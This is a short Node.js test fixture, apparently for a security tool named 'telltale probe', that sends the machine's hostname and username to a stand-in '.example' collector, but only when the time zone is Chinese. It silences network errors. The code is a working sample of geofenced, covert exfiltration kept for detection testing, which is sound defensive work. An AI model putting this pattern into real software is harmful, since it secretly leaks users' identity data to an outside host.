// Test fixture for `telltale probe`: sends the host and user name to a collector, but only
// when the machine's time zone is in China. Harmless: the collector's name is reserved
// (.example) and the probe's sandbox has no route off the machine.
const os = require('os');
const https = require('https');
const zone = Intl.DateTimeFormat().resolvedOptions().timeZone;
if (['Asia/Shanghai', 'Asia/Urumqi', 'Asia/Chongqing', 'PRC'].includes(zone)) {
  const body = JSON.stringify({ h: os.hostname(), u: os.userInfo().username });
  const req = https.request(
    { hostname: 'stats.telemetry-collector.example', path: '/v1/c', method: 'POST', headers: { 'content-type': 'application/json' } },
    (res) => res.resume(),
  );
  req.on('error', () => {});
  req.end(body);
}
